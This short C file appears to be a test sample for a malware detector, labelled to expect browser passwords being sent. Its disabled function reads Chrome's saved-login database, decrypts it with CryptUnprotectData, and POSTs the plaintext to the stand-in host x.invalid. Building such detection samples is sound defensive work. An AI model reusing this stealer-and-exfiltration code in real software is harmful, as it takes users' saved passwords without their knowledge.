/* Passwords of a browser are decrypted and sent.
 * expect: native-browser-passwords-sent
 * flags: -O2 -lcrypt32 -lwinhttp
 * flags: -O0 -s -lcrypt32 -lwinhttp
 * for: windows
 */
#include <windows.h>
#include <wincrypt.h>
#include <winhttp.h>
#include <stdio.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

static BYTE held[1 << 16];

static int act(void) {
    char path[300];
    DWORD n = 0;
    DATA_BLOB in = {0, held}, clear = {0};
    snprintf(path, sizeof path, "%s\\Google\\Chrome\\User Data\\Default\\Login Data", getenv("LOCALAPPDATA"));
    HANDLE f = CreateFileA(path, GENERIC_READ, 1, 0, OPEN_EXISTING, 0, 0);
    ReadFile(f, held, sizeof held, &n, 0);
    in.cbData = n;
    CryptUnprotectData(&in, 0, 0, 0, 0, 0, &clear);
    HINTERNET s = WinHttpOpen(L"x", 0, 0, 0, 0), c = WinHttpConnect(s, L"x.invalid", 443, 0);
    HINTERNET r = WinHttpOpenRequest(c, L"POST", L"/", 0, 0, 0, WINHTTP_FLAG_SECURE);
    return WinHttpSendRequest(r, 0, 0, clear.pbData, clear.cbData, clear.cbData, 0);
}

int main(void) { return never ? act() : 0; }
